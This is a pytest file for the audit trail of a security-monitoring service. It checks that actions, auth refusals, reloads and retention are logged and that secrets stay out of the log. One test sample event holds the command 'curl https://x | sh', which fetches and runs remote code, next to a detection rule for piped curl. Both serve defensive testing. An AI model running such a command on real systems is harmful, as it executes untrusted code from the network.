"""The audit trail through the API: who did what, refusals, ingest left out, GET /api/v1/audit, retention."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import httpx

from service import metrics
from service.app import Service
from service.config import Settings
from tests.support.api import ADMIN, MATCHING, READER, auth
from tests.support.rules import CURL_RULE as RULE
from tests.support.security import captured, security_app


def client_for(app) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=("192.0.2.7", 4711)), base_url="http://t")


async def audit(client: httpx.AsyncClient, **params) -> list[dict]:
    response = await client.get("/api/v1/audit", params=params, headers=auth(ADMIN))
    assert response.status_code == 200, response.text
    return response.json()["items"]


async def test_state_changes_are_recorded_with_actor_role_client_object_and_outcome(tmp_path):
    with security_app(tmp_path) as (app, _, _), captured("pipesentry.audit") as lines:
        async with client_for(app) as client:
            created = await client.post("/api/v1/silences", headers=auth(ADMIN),
                                        json={"match": {"rule_ids": ["r1"]}, "duration_s": 60, "comment": "maintenance"})
            assert created.status_code == 201
            silence = created.json()["id"]
            assert (await client.delete(f"/api/v1/silences/{silence}", headers=auth(ADMIN))).status_code == 200
            assert (await client.delete("/api/v1/silences/nope", headers=auth(ADMIN))).status_code == 404
            assert (await client.post("/api/v1/rules/reload", headers=auth(ADMIN))).status_code == 200
            entries = await audit(client)
    by_action = [(e["action"], e["object"], e["outcome"]) for e in reversed(entries)]
    assert by_action == [("silence.create", silence, "ok"), ("silence.expire", silence, "ok"),
                         ("silence.expire", "nope", "rejected"), ("rules.reload", "rules", "ok")]
    first = entries[-1]
    assert (first["actor"], first["role"], first["via"], first["client"], first["status"]) == \
        ("ops", "admin", "token", "192.0.2.7", 201)
    assert entries[0]["detail"]["result"] == "ok"
    # one line per entry on the dedicated logger, with the same fields
    assert [r.action for r in lines.records] == [a for a, _, _ in by_action]  # type: ignore[attr-defined]
    assert lines.records[0].actor == "ops" and lines.records[0].object == silence  # type: ignore[attr-defined]


async def test_rule_tests_are_summarised_never_stored(tmp_path):
    secret_event = {"message": "curl https://x | sh", "password": "hunter2-hunter2"}
    with security_app(tmp_path) as (app, _, _), captured("pipesentry.audit") as lines:
        async with client_for(app) as client:
            tested = await client.post("/api/v1/rules/test", headers=auth(ADMIN),
                                       json={"rule": RULE, "events": [secret_event]})
            assert tested.status_code == 200
            entries = await audit(client, action="rules.test")
    assert len(entries) == 1
    detail = entries[0]["detail"]
    assert detail["events"] == 1 and detail["rule_bytes"] == len(RULE) and len(detail["rule_sha256"]) == 16
    text = json.dumps(entries) + " ".join(str(r.__dict__) for r in lines.records)
    assert "hunter2" not in text and "Curl Piped" not in text and ADMIN not in text


async def test_refusals_are_recorded_by_the_auth_layer(tmp_path):
    with security_app(tmp_path) as (app, _, _):
        async with client_for(app) as client:
            assert (await client.post("/api/v1/rules/reload", headers=auth(READER))).status_code == 403
            assert (await client.post("/api/v1/rules/reload", headers=auth("x" * 24))).status_code == 401
            assert (await client.get("/api/v1/alerts")).status_code == 401
            assert (await client.get("/api/v1/audit", headers=auth(READER))).status_code == 403
            entries = await audit(client, outcome="denied")
    seen = [(e["actor"], e["role"], e["status"], e["object"], e["detail"]["reason"]) for e in reversed(entries)]
    assert seen == [("viewer", "read", 403, "POST /api/v1/rules/reload", "forbidden"),
                    ("unauthenticated", "", 401, "POST /api/v1/rules/reload", "unauthenticated"),
                    ("unauthenticated", "", 401, "GET /api/v1/alerts", "unauthenticated"),
                    ("viewer", "read", 403, "GET /api/v1/audit", "forbidden")]
    assert all(e["action"] == "auth.denied" for e in entries)
    assert "x" * 24 not in json.dumps(entries)


async def test_ingest_is_counted_not_audited(tmp_path):
    counter = metrics.API_INGEST_REQUESTS.labels("ops", "ok")
    before = counter._value.get()
    with security_app(tmp_path) as (app, _, ingest):
        async with client_for(app) as client:
            for _ in range(3):
                posted = await client.post("/api/v1/events", content=MATCHING, headers=auth(ADMIN))
                assert posted.status_code == 200, posted.text
            assert await audit(client) == []
    assert counter._value.get() - before == 3
    assert ingest.accepted


async def test_filters_and_limit(tmp_path):
    now = [1_000_000.0]
    with security_app(tmp_path, clock=lambda: now[0]) as (app, _, _):
        async with client_for(app) as client:
            await client.post("/api/v1/rules/reload", headers=auth(ADMIN))
            now[0] += 100
            await client.post("/api/v1/rules/reload", headers=auth(READER))
            now[0] += 100
            await client.post("/api/v1/silences", headers=auth(ADMIN),
                              json={"match": {"rule_ids": ["r1"]}, "duration_s": 60, "comment": "maintenance"})
            assert [e["action"] for e in await audit(client, action="silence.")] == ["silence.create"]
            assert [e["actor"] for e in await audit(client, actor="viewer")] == ["viewer"]
            assert [e["action"] for e in await audit(client, since="1000050", until="1000150")] == ["auth.denied"]
            assert [e["action"] for e in await audit(client, since="1970-01-12T13:46:40Z", limit=1)] == \
                ["silence.create"]
            bad = await client.get("/api/v1/audit", params={"outcome": "maybe"}, headers=auth(ADMIN))
            assert bad.status_code == 422


async def test_retention_prunes_old_entries(tmp_path):
    now = [2_000_000.0]
    with security_app(tmp_path, audit={"retention_days": 1}, clock=lambda: now[0]) as (app, trail, _):
        trail.system("rules.reload", detail={"trigger": "watch"})
        now[0] += 86_400 + 1
        trail.system("rules.reload", detail={"trigger": "sighup"})
        stop = asyncio.Event()
        stop.set()
        await trail.prune_loop(stop)  # prunes once, then sees the stop
        async with client_for(app) as client:
            entries = await audit(client)
    assert [e["detail"]["trigger"] for e in entries] == ["sighup"]
    assert entries[0]["actor"] == "system"


async def test_watch_and_sighup_reloads_are_recorded_as_system(tmp_path: Path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "curl.yml").write_text(RULE)
    settings = Settings(rules={"paths": [str(rules)], "watch": False}, data_dir=tmp_path / "data",  # type: ignore[arg-type]
                        stdin={"enabled": False}, api={"enabled": False})  # type: ignore[arg-type]
    service = Service(settings)
    await service.build()
    await service.router.start()
    try:
        assert service.reloader is not None
        await service.reloader.reload("sighup")
        (rules / "broken.yml").write_text("title: x\n")
        await service.reloader.reload("watch")
        from service.audit.store import AuditQuery

        await service.audit.flush()
        entries = service.audit.query(AuditQuery())
    finally:
        await service.router.stop()
    assert [(e["actor"], e["action"], e["outcome"], e["detail"]["trigger"]) for e in reversed(entries)] == [
        ("system", "rules.reload", "ok", "sighup"), ("system", "rules.reload", "rejected", "watch")]


async def test_a_disabled_trail_records_nothing(tmp_path):
    with security_app(tmp_path, audit={"enabled": False}) as (app, _, _), captured("pipesentry.audit") as lines:
        async with client_for(app) as client:
            await client.post("/api/v1/rules/reload", headers=auth(ADMIN))
            response = await client.get("/api/v1/audit", headers=auth(ADMIN))
    assert response.status_code == 503 and lines.records == []


async def test_a_store_failure_never_fails_the_action_and_is_counted(tmp_path):
    failures = metrics.AUDIT_WRITE_FAILURES
    before = failures._value.get()
    with security_app(tmp_path) as (app, trail, _), captured("pipesentry.audit") as lines:
        trail._store._store.close()  # type: ignore[union-attr]  # the store goes away under the trail
        async with client_for(app) as client:
            assert (await client.post("/api/v1/rules/reload", headers=auth(ADMIN))).status_code == 200
            await trail.flush()
    assert failures._value.get() - before == 1
    assert [r.action for r in lines.records] == ["rules.reload"]  # type: ignore[attr-defined]


def test_long_objects_are_cut(tmp_path):
    with security_app(tmp_path) as (_, trail, _):
        entry = trail.record("auth.denied", actor="unauthenticated", role="", via="none", obj="GET /" + "a" * 5000)
    assert entry is not None and entry.object is not None and len(entry.object) == 203
